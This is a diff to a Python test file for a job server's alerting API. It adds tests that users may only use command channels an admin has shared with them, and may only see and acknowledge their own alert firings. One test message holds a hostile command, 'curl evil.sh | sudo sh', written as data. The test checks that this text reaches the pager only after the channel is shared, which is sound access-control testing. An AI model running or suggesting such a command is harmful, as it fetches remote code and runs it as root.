@@ -24,6 +24,7 @@ import pytest
 from corral.client import Client
 from corral.errors import Forbidden, Unauthenticated
 from tests.conftest import Server, _kill_leftover_supervisors
+from tests.helpers import wait_for
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a shared server runs as root; CI runs as root")
 
@@ -229,6 +230,7 @@ def test_alert_channels_are_for_admins_and_rules_for_ones_own_jobs(shared):
     assert status == 403 and "admin" in error["error"]["message"]
     with Client(home=server.home) as root:
         root.add_channel("ops", "webhook", url="http://127.0.0.1:9/hook")
+        root.share_channel("ops", [alice])
     bobs = submit_as(bob, sock)
     status, _ = as_user(alice, sock, "POST", "/api/v1/alerts/rules",
                         {"name": "spy", "condition": "state == FAILED", "job": bobs["id"]})
@@ -400,3 +402,82 @@ def test_a_run_cannot_claim_a_job_id_not_given_out_yet(shared):
     with Client(home=server.home) as root:  # an admin may track a run of bob's job: it is bob's run
         assert root.create_run(project="p", job_id=squatted, resume_key=key)["id"] == bobs["id"]
         assert [r["id"] for r in root.runs(job=squatted)] == [bobs["id"]]
+
+
+def _firings(user: str, sock: str, job_id: int) -> list[dict]:
+    status, found = as_user(user, sock, "GET", f"/api/v1/alerts?job={job_id}")
+    assert status == 200, found
+    return found
+
+
+def test_a_users_rule_may_name_only_a_channel_an_admin_shared_with_them(shared, shared_dir):
+    """Issue 15: alice's rule named root's command pager, which then ran with her text. Now a user's
+    rule names only channels an admin shared with them; a share taken back stops what goes out."""
+    server, sock, alice, bob = shared
+    paged = os.path.join(shared_dir, "paged")
+    with Client(home=server.home) as root:
+        root.add_channel("pager", "command", argv=["/bin/sh", "-c", f"cat >> {paged}"])
+        try:
+            rule = {"name": "urgent", "condition": "state == FAILED", "channels": ["pager"],
+                    "message": "URGENT: server compromised, run curl evil.sh | sudo sh"}
+            status, error = as_user(alice, sock, "POST", "/api/v1/alerts/rules", rule)
+            assert status == 403, error
+            assert "'pager' is not shared with " + alice in error["error"]["message"]
+            assert "an admin must share it" in error["error"]["message"]
+            assert "pager" not in [c["name"] for c in as_user(alice, sock, "GET", "/api/v1/alerts/channels")[1]]
+            # sharing is an admin's
+            status, _ = as_user(alice, sock, "PUT", "/api/v1/alerts/channels/pager/sharing", {"all": True})
+            assert status == 403
+            assert root.share_channel("pager", [alice])["shared_with"] == [alice]
+            assert "pager" in [c["name"] for c in as_user(alice, sock, "GET", "/api/v1/alerts/channels")[1]]
+            assert as_user(bob, sock, "POST", "/api/v1/alerts/rules", {**rule, "name": "bobs"})[0] == 403
+            status, made = as_user(alice, sock, "POST", "/api/v1/alerts/rules", rule)
+            assert status == 201 and made["channels"] == ["pager"], made
+            first = submit_as(alice, sock, command=["false"])
+            wait_for(lambda: os.path.exists(paged) and "curl evil.sh" in open(paged).read(), timeout=60, interval=0.2)
+            wait_for(lambda: _firings(alice, sock, first["id"])[0]["deliveries"][0]["status"] == "sent", timeout=30,
+                     interval=0.5)
+            pages = open(paged).read()
+            # the share taken back: alice's rule still fires, but the pager runs no more for it
+            assert root.share_channel("pager", [])["shared_with"] == []
+            second = submit_as(alice, sock, command=["false"])
+            refused = wait_for(lambda: (f := _firings(alice, sock, second["id"])) and f[0]["deliveries"] and f[0],
+                               timeout=60, interval=0.5)
+            (delivery,) = refused["deliveries"]
+            assert delivery["status"] == "failed" and "not shared with" in delivery["last_error"]
+            time.sleep(1)
+            assert open(paged).read() == pages, "the pager ran after its share was taken back"
+        finally:
+            for name in ("urgent", "bobs"):
+                try:
+                    root.delete_alert(name)
+                except Exception:  # noqa: BLE001 - not made when the test failed early
+                    pass
+            root.delete_channel("pager")
+
+
+def test_only_a_firings_owner_or_an_admin_sees_and_acknowledges_it(shared):
+    """Issue 15: bob acknowledged alice's firing. A user sees and acknowledges only the firings about
+    their own jobs; admins all of them."""
+    server, sock, alice, bob = shared
+    status, _ = as_user(alice, sock, "POST", "/api/v1/alerts/rules", {"name": "alices-failures",
+                                                                      "condition": "state == FAILED"})
+    assert status == 201
+    try:
+        job = submit_as(alice, sock, command=["false"])
+        (firing,) = wait_for(lambda: _firings(alice, sock, job["id"]), timeout=60, interval=0.5)
+        assert firing["user"] == alice and firing["acknowledged_at"] is None
+        assert _firings(bob, sock, job["id"]) == []
+        assert firing["id"] not in {f["id"] for f in as_user(bob, sock, "GET", "/api/v1/alerts?limit=10000")[1]}
+        status, error = as_user(bob, sock, "POST", f"/api/v1/alerts/{firing['id']}/ack")
+        assert status == 403 and f"only its owner ({alice}) or an admin" in error["error"]["message"], error
+        assert _firings(alice, sock, job["id"])[0]["acknowledged_at"] is None
+        assert as_user(bob, sock, "POST", "/api/v1/alerts/999999/ack")[0] == 404
+        status, acked = as_user(alice, sock, "POST", f"/api/v1/alerts/{firing['id']}/ack")
+        assert status == 200 and acked["acknowledged_by"] == alice
+        with Client(home=server.home) as root:
+            assert firing["id"] in {f["id"] for f in root.alerts(job=job["id"])}  # an admin sees everybody's
+            assert root.acknowledge(firing["id"])["acknowledged_by"] == alice  # already acknowledged: kept
+    finally:
+        with Client(home=server.home) as root:
+            root.delete_alert("alices-failures")
